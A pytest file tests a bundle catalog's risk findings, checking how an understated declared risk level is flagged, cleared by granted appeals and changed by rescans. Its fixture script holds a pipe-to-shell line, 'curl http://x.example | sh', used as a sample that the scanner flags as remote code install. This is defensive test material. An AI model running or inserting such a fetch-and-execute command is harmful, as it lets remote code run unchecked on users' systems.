"""The finding that a declared risk is too low follows the suggested risk: after appeals and after scans."""

from __future__ import annotations

import pytest

from catalog import appeals
from catalog.bundles.files import Limits
from catalog.models import Version
from catalog.rescans import Rescan, rescan, stale_versions
from tests import cast as crew
from tests import make

pytestmark = pytest.mark.django_db
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"
HIGH = "The bundle is declared as low risk; permissions and contents suggest high."
MEDIUM = "The bundle is declared as low risk; permissions and contents suggest medium."


@pytest.fixture
def cast() -> make.Cast:
    return make.cast()


def published(cast: make.Cast, **more: object) -> Version:
    return make.version(cast=cast, files={"scripts/run.sh": SCRIPT}, **more)  # type: ignore[arg-type]


def told(version: Version) -> list[str]:
    rows = version.findings.filter(code="risk-level-understated")
    return list(rows.values_list("message", flat=True))


def grant(version: Version, cast: make.Cast) -> None:
    finding = version.findings.get(code="remote-code-install")
    made = appeals.appeal(finding=finding, actor=crew.actor(cast.ines), reason="Ours.", now=make.NOW)
    appeals.decide(appeal=made, granted=True, actor=crew.actor(cast.mara), note="", now=make.NOW)


def scan(version: Version, cast: make.Cast) -> Rescan:
    return rescan(version=version, limits=Limits(), actor=crew.actor(cast.ines), now=make.NOW)


def test_a_granted_appeal_takes_it_away(cast: make.Cast) -> None:
    version = published(cast)
    assert told(version) == [HIGH]
    grant(version, cast)
    assert told(version) == []


def test_a_scan_does_not_bring_back_what_an_appeal_took_away(cast: make.Cast) -> None:
    version = published(cast)
    grant(version, cast)
    assert not scan(version, cast).changed
    assert told(version) == []


def test_what_else_calls_for_a_risk_is_named_instead(cast: make.Cast) -> None:
    version = published(cast, permissions=("send",))
    assert told(version) == [HIGH]
    grant(version, cast)
    assert told(version) == [MEDIUM]


def test_a_scan_that_raises_the_risk_tells_it(cast: make.Cast) -> None:
    version = published(cast)
    version.findings.filter(code__in=["remote-code-install", "risk-level-understated"]).delete()
    Version.objects.update(suggested_risk="low")
    done = scan(version, cast)
    assert (done.gained, done.lost, done.risk_after) == (2, 0, "high")
    assert told(version) == [HIGH]


def test_a_scan_that_lowers_the_risk_takes_it_away(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    version.findings.create(
        code="shell-everywhere", severity="warning", message="x", fingerprint="0" * 64, rule_version=0
    )
    version.findings.create(
        code="risk-level-understated", severity="warning", message=HIGH, fingerprint="1" * 64, rule_version=0
    )
    Version.objects.update(suggested_risk="high")
    done = scan(version, cast)
    assert (done.gained, done.lost, done.risk_after) == (0, 2, "low")
    assert told(version) == []


def test_the_line_of_a_manifest_stays_while_the_risk_does(cast: make.Cast) -> None:
    more = make.manifest().replace(b"risk_level: medium", b"risk_level: low").replace(b"[network]", b"[send]")
    version = make.version("refund.issue", cast=cast, files={"manifest.yaml": more, "run.py": b"x = 1\n"})
    before = told(version)
    assert before == ["risk_level (line 5) is low, but the permissions call for medium."]
    assert not scan(version, cast).changed
    assert told(version) == before


def test_who_named_no_level_understates_none(cast: make.Cast) -> None:
    version = published(cast, risk_level=None)
    scan(version, cast)
    assert told(version) == []


def test_an_appeal_makes_no_version_look_freshly_scanned(cast: make.Cast) -> None:
    version = published(cast, permissions=("send",))
    version.findings.update(rule_version=0)
    grant(version, cast)
    assert told(version) == [MEDIUM]
    assert list(stale_versions()) == [version]
